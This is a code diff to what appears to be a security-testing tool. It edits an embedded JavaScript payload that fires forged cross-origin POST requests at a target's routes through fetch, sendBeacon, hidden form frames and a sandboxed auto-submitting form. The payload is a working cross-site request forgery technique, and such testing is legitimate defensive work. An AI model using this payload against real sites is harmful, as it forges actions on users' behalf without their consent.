@@ -62,7 +62,7 @@ ATTACK = """async ({ target, changing, reading, body }) => {
     tries.push(heard(made, "load", "error"));
     return made;
   };
-  for (const [method, path] of changing) {
+  for (const [number, [method, path]] of changing.entries()) {
     for (const mode of ["cors", "no-cors"]) {
       for (const type of ["application/json", ...FORMS]) {
         if (mode === "no-cors" && method !== "POST") continue;
@@ -71,7 +71,9 @@ ATTACK = """async ({ target, changing, reading, body }) => {
     }
     if (method !== "POST") continue;
     navigator.sendBeacon(target + path, new Blob([body], { type: "text/plain" }));
-    for (const enctype of FORMS) {
+    // A frame for each route, not for each kind of form: frames cost more than all else.
+    const enctype = FORMS[number % (FORMS.length + 1)];
+    if (enctype) {
       const name = `frame${tries.length}`;
       frame({ name });
       const form = document.createElement("form");
@@ -81,12 +83,13 @@ ATTACK = """async ({ target, changing, reading, body }) => {
       form.append(input);
       document.body.append(form);
       form.submit();
+    } else {
+      frame({
+        sandbox: "allow-scripts allow-forms",
+        srcdoc: `<form method=post enctype="text/plain" action="${target + path}"></form>`
+          + "<script>document.forms[0].submit()<" + "/script>",
+      });
     }
-    frame({
-      sandbox: "allow-scripts allow-forms",
-      srcdoc: `<form method=post enctype="text/plain" action="${target + path}"></form>`
-        + "<script>document.forms[0].submit()<" + "/script>",
-    });
   }
   for (const path of reading) {
     const address = target + path;
